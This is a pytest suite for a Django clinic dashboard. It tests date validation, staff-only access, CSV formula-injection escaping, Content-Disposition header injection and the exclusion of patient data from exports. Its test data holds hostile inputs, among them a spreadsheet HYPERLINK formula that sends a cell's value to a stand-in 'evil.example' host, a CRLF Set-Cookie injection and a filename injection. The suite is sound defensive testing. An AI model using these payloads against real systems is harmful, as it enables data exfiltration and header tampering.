"""Attacks on the operations dashboard and its CSV exports: hostile ranges, who may see it, what a cell or a
file name may carry. Every refusal is a 4xx, never a 500 and never a CSV of something else."""

import csv
import io
from datetime import date

import pytest
from django.test import Client

from appointments.models import AppointmentStatus
from core import clock
from tests.admin_forms import staff_client
from tests.appointments.factories import AppointmentFactory
from tests.clinics.factories import ClinicFactory
from tests.doctors.clients import doctor_portal_client
from tests.doctors.factories import DoctorFactory
from tests.users.factories import UserFactory

pytestmark = pytest.mark.django_db

URL = "/admin/operations/dashboard/"


@pytest.mark.parametrize(
    "query",
    [
        {"start": "9999-12-30", "end": "9999-12-31"},
        {"start": "0001-01-01", "end": "0001-01-02"},
        {"start": "9999-12-31", "end": "9999-12-31", "export": "video_calls"},
        {"start": "0001-01-01", "end": "0001-01-01", "export": "bookings_per_day"},
    ],
)
def test_dates_at_the_ends_of_the_calendar_are_refused_not_a_500(client: Client, query: dict[str, str]) -> None:
    response = staff_client(client).get(URL, query)
    assert response.status_code == 400
    assert not response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    "query",
    [
        {"start": "2031-01-10", "end": "2031-01-01", "export": "bookings_per_day"},  # end before start
        {"start": "2031-01-01", "end": "2032-01-01", "export": "bookings_per_day"},  # too long
        {"start": "not-a-date", "end": "2031-01-01", "export": "pending"},
        {"start": "2031-01-01", "end": "2031-01-02", "city": "Atlantis", "export": "pending"},
        {"start": "2031-01-01\x00", "end": "2031-01-02", "export": "pending"},
        {"start": "\u0662\u0660\u0663\u0661-\u0660\u0661-\u0660\u0661", "end": "2031-01-02"},  # Arabic-Indic digits
        {"start": "2031-01-01", "end": "9" * 400},
    ],
)
def test_a_bad_range_is_a_400_and_never_a_csv(client: Client, query: dict[str, str]) -> None:
    response = staff_client(client).get(URL, query)
    assert response.status_code == 400
    assert not response["Content-Type"].startswith("text/csv")


def test_an_unknown_table_is_a_400(client: Client) -> None:
    response = staff_client(client).get(URL, {"start": "2031-01-01", "end": "2031-01-02", "export": "__class__"})
    assert response.status_code == 400


def test_members_doctors_and_anonymous_never_see_it(client: Client) -> None:
    query = {"start": "2031-01-01", "end": "2031-01-02", "export": "pending"}
    assert Client().get(URL, query).status_code == 302  # the admin's sign-in
    member = Client()
    member.force_login(UserFactory())
    assert member.get(URL, query).status_code == 302
    doctor = doctor_portal_client(DoctorFactory())
    assert doctor.get(URL, query).status_code == 302


@pytest.mark.parametrize("role", ["ADMIN", "OPERATIONS"])
def test_both_staff_roles_may_export(client: Client, role: str) -> None:
    response = staff_client(client, role=role).get(
        URL, {"start": "2031-01-01", "end": "2031-01-02", "export": "bookings_per_day"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1+1"],
)
def test_names_in_exported_cells_are_never_formulas(
    client: Client, monkeypatch: pytest.MonkeyPatch, payload: str
) -> None:
    from datetime import datetime, timedelta
    from zoneinfo import ZoneInfo

    now = datetime(2031, 1, 9, 12, tzinfo=ZoneInfo("Asia/Kolkata"))
    monkeypatch.setattr(clock, "now", lambda: now)
    clinic = ClinicFactory(city="Pune", name=payload)
    doctor = DoctorFactory(clinic=clinic, name=payload)
    AppointmentFactory(
        doctor=doctor,
        appointment_date="2031-01-10",
        status=AppointmentStatus.PENDING_CONFIRMATION,
        requested_at=now - timedelta(days=2),
        doctor_name=payload,
        clinic_name=payload,
    )
    staff = staff_client(client)
    query = {"start": "2031-01-06", "end": "2031-01-12"}
    for table in ("pending", "utilisation_doctors", "utilisation_clinics"):
        response = staff.get(URL, {**query, "export": table})
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells, table
        for cell in cells:
            assert not cell.lstrip(" \n\r\t").startswith(("=", "+", "@")) or cell.startswith("'"), (table, cell)


@pytest.mark.parametrize("city", ['Pune"; filename="evil.exe', "Bengaluru ಬೆಂಗಳೂರು", "Pune\r\nSet-Cookie: x=1"])
def test_a_city_in_the_file_name_cannot_break_the_header(client: Client, city: str) -> None:
    ClinicFactory(city=city)
    response = staff_client(client).get(
        URL, {"start": "2031-01-01", "end": "2031-01-02", "city": city, "export": "bookings_per_day"}
    )
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.count('"') == 2  # one quoted ASCII name, nothing that ends it early
    assert disposition.count("filename=") == 1
    assert "Set-Cookie" not in response.headers


def test_a_repeated_parameter_takes_one_value_and_is_not_a_500(client: Client) -> None:
    response = staff_client(client).get(
        URL + "?start=2031-01-01&start=2031-01-02&end=2031-01-03&export=bookings_per_day&export=pending"
    )
    assert response.status_code == 200


def test_the_selector_refuses_what_the_form_refuses() -> None:
    from core.errors import Invalid
    from operations.selectors import dashboard_figures

    with pytest.raises(Invalid):
        dashboard_figures(start=date(9999, 12, 31), end=date(9999, 12, 31))
    with pytest.raises(Invalid):
        dashboard_figures(start=date(2031, 1, 2), end=date(2031, 1, 1))


def test_no_export_names_a_patient_or_their_contact(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import datetime, timedelta
    from zoneinfo import ZoneInfo

    now = datetime(2031, 1, 9, 12, tzinfo=ZoneInfo("Asia/Kolkata"))
    monkeypatch.setattr(clock, "now", lambda: now)
    AppointmentFactory(
        appointment_date="2031-01-10",
        status=AppointmentStatus.PENDING_CONFIRMATION,
        requested_at=now - timedelta(days=2),
        patient_name="Zubeida Quartermaine",
        contact_number="+919876501234",
    )
    staff = staff_client(client)
    page = staff.get(URL, {"start": "2031-01-06", "end": "2031-01-12"})
    assert page.status_code == 200
    for key in page.context["dashboard"].tables:
        body = staff.get(URL, {"start": "2031-01-06", "end": "2031-01-12", "export": key}).content.decode()
        assert "Zubeida" not in body and "Quartermaine" not in body and "9876501234" not in body
    assert "Quartermaine" not in page.content.decode()
